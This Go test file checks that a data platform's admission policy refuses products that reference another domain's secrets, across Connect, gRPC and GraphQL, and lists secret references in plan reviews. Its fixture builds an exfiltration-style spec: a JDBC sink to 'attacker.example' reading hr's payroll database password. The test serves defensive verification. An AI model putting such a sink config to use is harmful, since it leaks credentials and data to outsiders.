package app_test

import (
	"context"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"connectrpc.com/connect"

	v1 "github.com/meshplane/meshplane/api/gen/meshplane/v1"
	"github.com/meshplane/meshplane/server/app/apptest"
	"github.com/meshplane/meshplane/server/provision/summary"
)

// TestSecretRefsStayInTheirDomain shows the default admission policy keeping
// secret references within the product's domain through both doors: a
// member of sales naming hr's secrets is refused on the exact field, the
// domain's own references are admitted, and the plan review says which
// reference each connector reads.
func TestSecretRefsStayInTheirDomain(t *testing.T) {
	env := apptest.New(t)
	ctx := context.Background()
	env.Domain("sales")
	env.Domain("hr")
	memberTok := env.User("mark", "domain-member", "sales")
	member := env.Clients(apptest.ProtocolConnect, memberTok)

	// A JDBC sink second, so the path names its index.
	crossDomain := func() *v1.DataProductSpec {
		s := apptest.ProductSpec()
		s.Source.SecretRef = "env:HR_DB_PASSWORD"
		s.Sinks = append(s.Sinks[:1], &v1.Sink{Name: "mirror", Ports: []string{"orders"}, Kind: &v1.Sink_Jdbc{Jdbc: &v1.JdbcSink{
			Url: "jdbc:postgresql://attacker.example:5432/loot", Username: "loader", SecretRef: "file:/etc/meshplane/secrets/hr/payroll-db.properties:password",
			InsertMode: "upsert", PrimaryKeyFields: []string{"order_id"}}}})
		s.Sinks[0].GetBigquery().CredentialsRef = "vault:secret/data/hr/bigquery:key"
		return s
	}
	wantFields := []string{"spec.source.secretRef", "spec.sinks[0].bigquery.credentialsRef", "spec.sinks[1].jdbc.secretRef"}

	// Connect (and gRPC): refused on every offending field, nothing written.
	for _, p := range []apptest.Protocol{apptest.ProtocolConnect, apptest.ProtocolGRPC} {
		c := env.Clients(p, memberTok)
		_, err := c.Catalog.CreateDataProduct(ctx, connect.NewRequest(&v1.CreateDataProductRequest{Domain: "sales", Name: "orders", Spec: crossDomain()}))
		got := wantError(t, string(p)+": creating with hr's secrets", err, connect.CodeInvalidArgument, "POLICY_DENIED")
		wantPaths(t, string(p)+": creating with hr's secrets", got, wantFields...)
		if msg := got["spec.source.secretRef"]; !strings.Contains(msg, `"env:HR_DB_PASSWORD"`) || !strings.Contains(msg, "env:SALES__<NAME>") {
			t.Errorf("%s: the refusal does not say what is wrong and what is allowed: %q", p, msg)
		}
	}
	_, err := member.Catalog.GetDataProduct(ctx, connect.NewRequest(&v1.GetDataProductRequest{Domain: "sales", Name: "orders"}))
	wantError(t, "reading the refused product", err, connect.CodeNotFound, "")

	// GraphQL: the same refusal, the same paths.
	r := env.GraphQL(memberTok, `mutation($in: CreateDataProductInput!) { createDataProduct(input: $in) { dataProduct { name } } }`,
		map[string]any{"in": map[string]any{"domain": "sales", "name": "orders", "spec": specVar(crossDomain())}})
	if len(r.Errors) != 1 {
		t.Fatalf("graphql createDataProduct: errors %+v, data %s", r.Errors, r.Data)
	}
	ext := r.Errors[0].Extensions
	var gqlPaths []string
	for _, f := range ext.Fields {
		gqlPaths = append(gqlPaths, f.Path)
	}
	if slices.Sort(gqlPaths); ext.Code != "INVALID_ARGUMENT" || ext.Reason != "POLICY_DENIED" || !slices.Equal(gqlPaths, slices.Sorted(slices.Values(wantFields))) {
		t.Fatalf("graphql refusal: code %s, reason %s, fields %v", ext.Code, ext.Reason, gqlPaths)
	}

	// The domain's own references are admitted, through both doors.
	created, err := member.Catalog.CreateDataProduct(ctx, connect.NewRequest(&v1.CreateDataProductRequest{Domain: "sales", Name: "orders", Spec: apptest.ProductSpec()}))
	if err != nil {
		t.Fatalf("creating with sales' own secrets: %v", err)
	}
	r = env.GraphQL(memberTok, `mutation($in: CreateDataProductInput!) { createDataProduct(input: $in) { dataProduct { name } } }`,
		map[string]any{"in": map[string]any{"domain": "sales", "name": "returns", "spec": specVar(apptest.ProductSpec())}})
	if len(r.Errors) != 0 {
		t.Fatalf("graphql with sales' own secrets: %+v", r.Errors)
	}

	// A product cannot be changed to read another domain's secret.
	s := apptest.ProductSpec()
	s.Source.SecretRef = apptest.EnvSecretRef("hr", "DB_PASSWORD")
	_, err = member.Catalog.UpdateDataProduct(ctx, connect.NewRequest(&v1.UpdateDataProductRequest{Domain: "sales", Name: "orders", Spec: s,
		Version: created.Msg.GetDataProduct().GetVersion()}))
	wantPaths(t, "updating to hr's secret", wantError(t, "updating to hr's secret", err, connect.CodeInvalidArgument, "POLICY_DENIED"), "spec.source.secretRef")

	// The plan review names the reference each connector reads.
	apptest.RequireTools(t)
	run := plan(t, member, "sales", "orders")
	full, err := env.Server.Store.Client.ProvisioningRun.Get(ctx, run.GetId())
	if err != nil {
		t.Fatal(err)
	}
	refs := map[string][]summary.SecretRef{}
	for _, rc := range full.Summary.Resources {
		if len(rc.SecretRefs) > 0 {
			refs[rc.Address] = rc.SecretRefs
		}
	}
	want := map[string][]summary.SecretRef{
		"module.source.kafka-connect_connector.this":          {{Setting: "database.password", Ref: "env:SALES__ORDERS_DB_PASSWORD"}},
		"module.sink__warehouse.kafka-connect_connector.this": {{Setting: "keyfile", Ref: "file:/etc/meshplane/secrets/sales/bq.properties:key"}},
	}
	if len(refs) != len(want) {
		t.Errorf("resources with secret references: %v, want %v", refs, want)
	}
	for addr, w := range want {
		if !slices.Equal(refs[addr], w) {
			t.Errorf("%s reads %+v, want %+v", addr, refs[addr], w)
		}
	}
	// The Connect door shows the same.
	for _, rc := range run.GetSummary().GetResources() {
		var got []summary.SecretRef
		for _, s := range rc.GetSecretRefs() {
			got = append(got, summary.SecretRef{Setting: s.GetSetting(), Ref: s.GetRef()})
		}
		if !slices.Equal(got, want[rc.GetAddress()]) {
			t.Errorf("connect: %s reads %+v, want %+v", rc.GetAddress(), got, want[rc.GetAddress()])
		}
	}
	gql := env.GraphQL(memberTok, `query($id: ID!) { run(id: $id) { summary { resources { address secretRefs { setting ref } } } } }`,
		map[string]any{"id": run.GetId()})
	if len(gql.Errors) > 0 {
		t.Fatalf("graphql run: %+v", gql.Errors)
	}
	var view struct {
		Run struct {
			Summary struct {
				Resources []struct {
					Address    string
					SecretRefs []summary.SecretRef
				}
			}
		}
	}
	if err := json.Unmarshal(gql.Data, &view); err != nil {
		t.Fatal(err)
	}
	for _, rc := range view.Run.Summary.Resources {
		if w, ok := want[rc.Address]; ok && !slices.Equal(rc.SecretRefs, w) {
			t.Errorf("graphql: %s reads %+v, want %+v", rc.Address, rc.SecretRefs, w)
		}
		delete(want, rc.Address)
	}
	if len(want) > 0 {
		t.Errorf("graphql summary lacks %v", want)
	}
}
